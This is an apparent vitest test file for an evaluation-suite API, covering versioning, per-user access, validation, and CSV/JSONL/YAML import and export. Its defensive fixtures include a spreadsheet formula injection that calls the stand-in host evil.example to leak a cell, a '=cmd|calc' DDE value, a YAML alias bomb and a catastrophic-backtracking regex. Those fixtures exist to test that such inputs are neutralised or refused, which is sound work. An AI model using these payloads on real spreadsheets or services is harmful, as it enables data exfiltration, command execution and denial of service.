import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ADMIN_PASSWORD,
  type Client,
  memberClient,
  signIn,
  startTestApp,
  type TestApp,
} from '../../../../test/helpers/app';
import { fixtureArticles, loadArticles } from '../../../../test/helpers/articles';
import { dialects } from '../../../../test/helpers/databases';

// Suites over HTTP on both engines: versions, ownership, bad input, import and export.

const TOPIC = 'Robotics';
const BASE = '/api/evals/suites';
const aCase = (i: number, extra: Record<string, unknown> = {}) => ({
  query: `How are companies adopting robots, part ${i}?`,
  topic: TOPIC,
  ...extra,
});

describe.each(dialects)('evaluation suites on $dialect', ({ create }) => {
  let t: TestApp;
  let alice: Client;
  let bob: Client;

  beforeAll(async () => {
    t = await startTestApp(await create());
    await loadArticles(t.ctx, TOPIC, fixtureArticles('Robotics', 3));
    const admin = await signIn(t, 'admin', ADMIN_PASSWORD);
    alice = await memberClient(t, admin, 'alice');
    bob = await memberClient(t, admin, 'bob');
  });
  afterAll(() => t.close());

  const make = async (name: string, cases: unknown[] = [aCase(1)]) => {
    const res = await alice('POST', BASE, { name, description: 'Questions that matter', cases });
    expect(res.statusCode, res.body).toBe(201);
    return res.json();
  };

  it('creates a suite as version 1, lists it, and reads it back whole', async () => {
    const suite = await make('Core questions', [aCase(1, { tags: ['smoke'], reference: 'Pilots first.' })]);
    expect(suite).toEqual({
      id: expect.any(Number),
      name: 'Core questions',
      description: 'Questions that matter',
      version: 1,
      version_id: expect.any(Number),
      case_count: 1,
      created_at: expect.any(String),
      updated_at: expect.any(String),
      cases: [aCase(1, { tags: ['smoke'], reference: 'Pilots first.' })],
      scoring: { assertions: [] },
    });
    const list = (await alice('GET', BASE)).json();
    expect(list.suites.find((s: any) => s.id === suite.id)).toEqual({
      id: suite.id,
      name: 'Core questions',
      description: 'Questions that matter',
      version: 1,
      case_count: 1,
      created_at: suite.created_at,
      updated_at: suite.updated_at,
    });
    expect((await bob('GET', BASE)).json()).toEqual({ suites: [] });
  });

  it('makes an immutable version for every change, and none when nothing changed', async () => {
    const suite = await make('Versioned');
    const v2 = (await alice('PUT', `${BASE}/${suite.id}`, { cases: [aCase(1), aCase(2)] })).json();
    expect({ version: v2.version, count: v2.case_count }).toEqual({ version: 2, count: 2 });
    expect(v2.version_id).not.toBe(suite.version_id);
    const same = (await alice('PUT', `${BASE}/${suite.id}`, { cases: [aCase(1), aCase(2)] })).json();
    expect(same.version).toBe(2);
    const renamed = (await alice('PUT', `${BASE}/${suite.id}`, { name: 'Versioned again' })).json();
    expect({ version: renamed.version, name: renamed.name, count: renamed.case_count }).toEqual({
      version: 3,
      name: 'Versioned again',
      count: 2,
    });
    // The first version is still there as it was.
    const v1 = await t.ctx.db
      .selectFrom('suite_versions')
      .select(['version', 'cases'])
      .where('id', '=', suite.version_id)
      .executeTakeFirstOrThrow();
    expect({ version: v1.version, cases: JSON.parse(v1.cases) }).toEqual({ version: 1, cases: [aCase(1)] });
  });

  it('keeps suite-level scoring in the version: a change makes one, the same scoring none', async () => {
    const suite = await make('Scored');
    const scoring = { assertions: [{ type: 'icontains', value: 'robot', weight: 2 }], threshold: 0.5 };
    const v2 = (await alice('PUT', `${BASE}/${suite.id}`, { scoring })).json();
    expect({ version: v2.version, scoring: v2.scoring }).toEqual({ version: 2, scoring });
    const same = (await alice('PUT', `${BASE}/${suite.id}`, { scoring })).json();
    expect(same.version).toBe(2);
    const bad = await alice('PUT', `${BASE}/${suite.id}`, { scoring: { assertions: [{ type: 'nope' }] } });
    expect({ status: bad.statusCode, detail: bad.json().detail }).toEqual({
      status: 400,
      detail: expect.stringContaining('scoring.assertions.0'),
    });
    const cleared = (await alice('PUT', `${BASE}/${suite.id}`, { scoring: { assertions: [] } })).json();
    expect({ version: cleared.version, scoring: cleared.scoring }).toEqual({
      version: 3,
      scoring: { assertions: [] },
    });
  });

  it('never writes one version twice when edits race', async () => {
    const suite = await make('Raced');
    const results = await Promise.all(
      Array.from({ length: 6 }, (_, i) => alice('PUT', `${BASE}/${suite.id}`, { cases: [aCase(i + 10)] })),
    );
    const ok = results.filter((r) => r.statusCode === 200).length;
    expect(results.every((r) => [200, 409].includes(r.statusCode))).toBe(true);
    const versions = await t.ctx.db
      .selectFrom('suite_versions')
      .select('version')
      .where('suite_id', '=', suite.id)
      .orderBy('version')
      .execute();
    expect(versions.map((v) => v.version)).toEqual(Array.from({ length: ok + 1 }, (_, i) => i + 1));
    expect((await alice('GET', `${BASE}/${suite.id}`)).json().version).toBe(ok + 1);
  });

  it('answers 404 for another user’s suite, everywhere', async () => {
    const suite = await make('Private');
    const id = suite.id;
    for (const [method, url, body] of [
      ['GET', `${BASE}/${id}`],
      ['PUT', `${BASE}/${id}`, { name: 'Mine now' }],
      ['DELETE', `${BASE}/${id}`],
      ['POST', `${BASE}/${id}/cases`, { cases: [aCase(1)] }],
      ['POST', `${BASE}/${id}/import`, { format: 'jsonl', content: JSON.stringify(aCase(1)) }],
      ['GET', `${BASE}/${id}/export?format=csv`],
      ['GET', `${BASE}/2147483648`],
    ] as const) {
      const res = await bob(method, url, body);
      expect({ url, status: res.statusCode }).toEqual({ url, status: 404 });
    }
    expect((await alice('GET', `${BASE}/${id}`)).json().name).toBe('Private');
  });

  it.each([
    [{ name: '' }, 'body.name: name must be 1–100 characters'],
    [
      { name: 'x', cases: [{ query: 'short', topic: TOPIC }] },
      'body.cases.0.query: query must be 10–1000 characters',
    ],
    [
      { name: 'x', cases: [aCase(1), aCase(2, { assertions: [{ type: 'telepathy', value: 'x' }] })] },
      'body.cases.1.assertions.0.type: unknown assertion type',
    ],
    [
      { name: 'x', cases: [aCase(1, { assertions: [{ type: 'contains' }] })] },
      'body.cases.0.assertions.0.value: value is required',
    ],
    [{ name: 'x', cases: [{ topic: TOPIC }] }, 'body.cases.0.query: query is required'],
    [{ name: 'x', cases: [aCase(1, { colour: 'blue' })] }, 'body.cases.0: Unrecognized key: "colour"'],
    [
      {
        name: 'x',
        cases: [
          aCase(1, { assertions: [{ type: 'json-schema', schema: { type: 'object', requried: ['a'] } }] }),
        ],
      },
      'body.cases.0.assertions.0.schema: invalid JSON Schema: strict mode: unknown keyword: "requried"',
    ],
    [
      { name: 'x', cases: [aCase(1, { assertions: [{ type: 'regex', pattern: '(a+)+$' }] })] },
      'body.cases.0.assertions.0.pattern: regex refused: a repetition inside a repetition, such as (a+)+ or (\\w+\\s?)*, can backtrack catastrophically; simplify the pattern',
    ],
    [
      { name: 'x', cases: [aCase(1), aCase(2, { topic: 'Nowhere' })] },
      'cases.1.topic: topic "Nowhere" does not exist',
    ],
  ])('refuses %j with a detail naming the case and field', async (body, detail) => {
    const res = await alice('POST', BASE, body);
    expect({ status: res.statusCode, detail: res.json().detail }).toEqual({ status: 400, detail });
  });

  it('refuses a second suite of the same name (409) and more than 5,000 cases (400)', async () => {
    await make('Unique');
    expect((await alice('POST', BASE, { name: 'Unique' })).statusCode).toBe(409);
    // Bob may use the name.
    expect((await bob('POST', BASE, { name: 'Unique' })).statusCode).toBe(201);
    const tooMany = await alice('POST', BASE, {
      name: 'Huge',
      cases: Array.from({ length: 5001 }, (_, i) => aCase(i)),
    });
    expect(tooMany.json().detail).toBe('body.cases: a suite holds at most 5,000 cases');
  });

  it('appends cases (Save as case) as a new version', async () => {
    const suite = await make('Saved cases');
    const res = await alice('POST', `${BASE}/${suite.id}/cases`, { cases: [aCase(7)] });
    expect({ version: res.json().version, cases: res.json().cases }).toEqual({
      version: 2,
      cases: [aCase(1), aCase(7)],
    });
  });

  const cases = [
    aCase(1, { tags: ['smoke', 'risk'], reference: 'Pilots, then budgets.', description: 'The basic one' }),
    aCase(2, { variables: { audience: 'analysts', year: 2026, strict: true } }),
    aCase(3, {
      assertions: [
        { type: 'icontains', value: 'robot' },
        { type: 'contains', value: 'speculate', not: true, weight: 2 },
      ],
    }),
    aCase(4, { query: 'A query with "quotes", commas, and a\nnew line in it?' }),
  ];

  it.each(['csv', 'jsonl', 'yaml'] as const)(
    'exports to %s and imports the file back unchanged',
    async (format) => {
      const source = await make(`Round trip ${format}`, cases);
      const exported = await alice('GET', `${BASE}/${source.id}/export?format=${format}`);
      expect(exported.statusCode).toBe(200);
      expect(exported.headers['content-disposition']).toBe(
        `attachment; filename="Round_trip_${format}.${format}"`,
      );
      const target = await make(`Target ${format}`, []);
      const imported = await alice('POST', `${BASE}/${target.id}/import`, { format, content: exported.body });
      expect(imported.statusCode, imported.body).toBe(200);
      expect({ imported: imported.json().imported, cases: imported.json().cases }).toEqual({
        imported: 4,
        cases,
      });
    },
  );

  // Each starts with what a spreadsheet would run as a formula, or with a quote of its own.
  const formulaCases = [
    aCase(1, { query: '=HYPERLINK("http://evil.example/?"&A1,"Click for more robots")' }),
    aCase(2, { query: '+1+1 robots in the factories of today?', tags: ['-risk', '@team'] }),
    aCase(3, { query: '-2 robots per line: is that the norm?', description: '@mention the plant' }),
    aCase(4, { query: '@robots: who mentions them most?', reference: '\tTabbed reference\r' }),
    aCase(5, { query: "'=quoted already: how do robots fare?" }),
    aCase(6, {
      query: "'Tis the season for robots, is it not?",
      variables: { who: '=cmd|calc' },
      reference: '\rfirst',
    }),
  ];

  it('writes no CSV cell that opens as a formula, and imports the export back unchanged', async () => {
    const source = await make('Formulas', formulaCases);
    const exported = await alice('GET', `${BASE}/${source.id}/export?format=csv`);
    const { parse } = await import('csv-parse/sync');
    const cells = (parse(exported.body, { relax_column_count: true }) as string[][]).slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells.slice(0, 7 * 5 + 1).filter((_, i) => i % 7 === 0)).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"Click for more robots")',
      "'+1+1 robots in the factories of today?",
      "'-2 robots per line: is that the norm?",
      "'@robots: who mentions them most?",
      "''=quoted already: how do robots fare?",
      "'Tis the season for robots, is it not?",
    ]);
    const target = await make('Formulas back', []);
    const imported = await alice('POST', `${BASE}/${target.id}/import`, {
      format: 'csv',
      content: exported.body,
    });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json().cases).toEqual(formulaCases);
  });

  it('reads promptfoo tests: YAML (vars, assert with not-, description, metadata.tags)', async () => {
    const suite = await make('From promptfoo', []);
    const content = [
      'description: my promptfoo config',
      'tests:',
      '  - description: First',
      '    vars:',
      '      question: What do companies say about robot pilots?',
      `      topic: ${TOPIC}`,
      '      audience: executives',
      '    assert:',
      '      - type: icontains',
      '        value: pilot',
      '      - type: not-contains',
      '        value: I think',
      '    metadata:',
      '      tags: [smoke]',
    ].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'yaml', content });
    expect(res.json().cases).toEqual([
      {
        query: 'What do companies say about robot pilots?',
        topic: TOPIC,
        description: 'First',
        variables: { audience: 'executives' },
        assertions: [
          { type: 'icontains', value: 'pilot' },
          { type: 'contains', value: 'I think', not: true },
        ],
        tags: ['smoke'],
      },
    ]);
  });

  it('resolves YAML anchors, aliases and merge keys anywhere in the file', async () => {
    const suite = await make('YAML aliases', []);
    const content = [
      'defaults: &defaults',
      `  topic: ${TOPIC}`,
      '  audience: executives',
      'checks: &checks',
      '  - type: icontains',
      '    value: robot',
      'tests:',
      '  - vars:',
      '      <<: *defaults',
      `      query: ${aCase(1).query}`,
      '    assert: *checks',
      '  - vars: &second',
      '      <<: *defaults',
      '      audience: analysts',
      `      query: ${aCase(2).query}`,
      '  - vars: *second',
      ...Array.from({ length: 300 }, (_, i) => [
        '  - vars:',
        '      <<: *defaults',
        `      query: ${aCase(i + 3).query}`,
      ]).flat(),
    ].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'yaml', content });
    expect(res.statusCode, res.body).toBe(200);
    const vars = (audience: string) => ({ variables: { audience } });
    expect(res.json().cases.slice(0, 4)).toEqual([
      aCase(1, { ...vars('executives'), assertions: [{ type: 'icontains', value: 'robot' }] }),
      aCase(2, vars('analysts')),
      aCase(2, vars('analysts')),
      aCase(3, vars('executives')),
    ]);
    expect(res.json().imported).toBe(303);
  });

  it('refuses a YAML alias bomb with a 400 naming it, before it expands', async () => {
    const suite = await make('YAML bomb');
    // Nine levels of nine aliases each: 9^9 (387 million) strings if it were ever expanded.
    const lines = ['a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
    for (let i = 1; i <= 9; i++)
      lines.push(
        `a${i}: &a${i} [${Array(9)
          .fill(`*a${i - 1}`)
          .join(', ')}]`,
      );
    lines.push('tests:', `  - vars: {query: "${aCase(1).query}", topic: ${TOPIC}, laughs: *a9}`);
    const res = await alice('POST', `${BASE}/${suite.id}/import`, {
      format: 'yaml',
      content: lines.join('\n'),
    });
    expect({ status: res.statusCode, detail: res.json().detail }).toEqual({
      status: 400,
      detail:
        'YAML refused: its aliases (*name) expand to more than 1000 copies of what they point to, as an alias bomb does',
    });
    expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
  });

  it('reads and writes promptfoo’s spelling of regex and contains-any/-all (value, icontains-…)', async () => {
    const suite = await make('promptfoo values', []);
    const content = [
      'tests:',
      '  - vars:',
      `      query: ${aCase(1).query}`,
      `      topic: ${TOPIC}`,
      '    assert:',
      '      - type: regex',
      '        value: "^[A-Z]"',
      '      - type: not-regex',
      '        value: "as an AI"',
      '      - type: contains-any',
      '        value: [robot, factory]',
      '      - type: icontains-all',
      '        value: [Robot, Pilot]',
      '        weight: 2',
    ].join('\n');
    const assertions = [
      { type: 'regex', pattern: '^[A-Z]' },
      { type: 'regex', not: true, pattern: 'as an AI' },
      { type: 'contains-any', values: ['robot', 'factory'] },
      { type: 'contains-all', ignore_case: true, values: ['Robot', 'Pilot'], weight: 2 },
    ];
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'yaml', content });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().cases).toEqual([{ ...aCase(1), assertions }]);
    const exported = await alice('GET', `${BASE}/${suite.id}/export?format=yaml`);
    expect(exported.body).toContain(
      [
        '    assert:',
        '      - type: regex',
        '        value: ^[A-Z]',
        '      - type: not-regex',
        '        value: as an AI',
        '      - type: contains-any',
        '        value:',
        '          - robot',
        '          - factory',
        '      - type: icontains-all',
        '        value:',
        '          - Robot',
        '          - Pilot',
        '        weight: 2',
      ].join('\n'),
    );
    const back = await make('promptfoo values back', []);
    const again = await alice('POST', `${BASE}/${back.id}/import`, {
      format: 'yaml',
      content: exported.body,
    });
    expect(again.json().cases).toEqual(res.json().cases);
  });

  it.each([
    [
      'jsonl',
      [
        JSON.stringify(aCase(1)),
        '{"query": "too short", "topic": "Robotics"}',
        'not json',
        JSON.stringify(aCase(2, { topic: 'Nowhere' })),
      ].join('\n'),
      [
        'line 2: query must be 10–1000 characters',
        'line 3: invalid JSON',
        'line 4: topic "Nowhere" does not exist',
      ],
    ],
    [
      'csv',
      `query,topic,tags\n${aCase(1).query},${TOPIC},a;b\nshort,${TOPIC},\n"${aCase(3).query}",Nowhere,\n`,
      ['line 3: query must be 10–1000 characters', 'line 4: topic "Nowhere" does not exist'],
    ],
    [
      'yaml',
      `tests:\n  - vars: {query: "${aCase(1).query}", topic: ${TOPIC}}\n  - vars: {query: short, topic: ${TOPIC}}\n  - assert: [{type: telepathy}]\n    vars: {query: "${aCase(2).query}", topic: ${TOPIC}}\n`,
      ['line 3: query must be 10–1000 characters', 'line 4: assertion 1: unknown assertion type'],
    ],
  ] as const)(
    'refuses a %s file with bad rows by line, importing nothing',
    async (format, content, lines) => {
      const suite = await make(`Bad ${format}`);
      const res = await alice('POST', `${BASE}/${suite.id}/import`, { format, content });
      expect(res.statusCode).toBe(400);
      for (const line of lines) expect(res.json().detail).toContain(line);
      expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
    },
  );

  it('refuses a CSV variables cell that is not a JSON object, by line and reason', async () => {
    const suite = await make('Bad variables');
    const row = (variables: string) => `"${aCase(1).query}",${TOPIC},"${variables.replaceAll('"', '""')}"`;
    const content = [
      'query,topic,variables',
      row('{"audience": "analysts"}'),
      row('["analysts", "executives"]'),
      row('42'),
      row('"analysts"'),
      row('null'),
    ].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'csv', content });
    const must = 'variables must be a JSON object such as {"audience": "analysts"}, not';
    expect({ status: res.statusCode, errors: res.json().errors }).toEqual({
      status: 400,
      errors: [
        { path: 'line 3', line: 3, message: `${must} an array` },
        { path: 'line 4', line: 4, message: `${must} a number` },
        { path: 'line 5', line: 5, message: `${must} a string` },
        { path: 'line 6', line: 6, message: `${must} null` },
      ],
    });
    expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
  });

  it.each([
    ['query,topic,Query', 'query'],
    ['query,topic,tags,var.audience, tags ', 'tags'],
  ])('refuses a CSV whose header is %j, naming the column it repeats', async (header, column) => {
    const suite = await make(`Twice ${column}`);
    const content = `${header}\n"${aCase(1).query}",${TOPIC},a,b,c\n`;
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'csv', content });
    expect({ status: res.statusCode, body: res.json() }).toEqual({
      status: 400,
      body: { detail: `The CSV header names the column "${column}" twice; name every column once` },
    });
    expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
  });

  it('names a bad row’s field once, an assertion by its number, and a missing field as required', async () => {
    const suite = await make('Row messages');
    const row = (c: Record<string, unknown>) => JSON.stringify(c);
    const content = [
      row({ query: 'too short', topic: TOPIC }),
      row({ topic: TOPIC }),
      row(aCase(3, { assertions: [{ type: 'icontains', value: 'robot' }, { type: 'contains' }] })),
      row(aCase(4, { assertions: [{ type: 'regex', pattern: '(a+)+$' }, { type: 'telepathy' }] })),
      row(aCase(5, { tags: ['x'.repeat(51)], variables: { who: ['a list'] } })),
    ].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'jsonl', content });
    expect(res.json().errors.map((e: { message: string }) => e.message)).toEqual([
      'query must be 10–1000 characters',
      'query is required',
      'assertion 2: value is required',
      'assertion 1: regex refused: a repetition inside a repetition, such as (a+)+ or (\\w+\\s?)*, can backtrack catastrophically; simplify the pattern; assertion 2: unknown assertion type',
      'variables.who: Invalid input; tags.0: a tag must be at most 50 characters',
    ]);
  });

  it('names the line of an imported case whose topic does not exist', async () => {
    const suite = await make('Unknown topic');
    const content = [JSON.stringify(aCase(1)), JSON.stringify(aCase(2, { topic: 'Nowhere' }))].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'jsonl', content });
    expect(res.json().detail).toBe(
      '1 row invalid; nothing was imported. line 2: topic "Nowhere" does not exist',
    );
  });

  it('replaces the cases on import with mode replace, and deletes a suite', async () => {
    const suite = await make('Replace me', [aCase(1), aCase(2)]);
    const res = await alice('POST', `${BASE}/${suite.id}/import`, {
      format: 'jsonl',
      content: JSON.stringify(aCase(9)),
      mode: 'replace',
    });
    expect(res.json().cases).toEqual([aCase(9)]);
    expect((await alice('DELETE', `${BASE}/${suite.id}`)).statusCode).toBe(204);
    expect((await alice('GET', `${BASE}/${suite.id}`)).statusCode).toBe(404);
  });
});
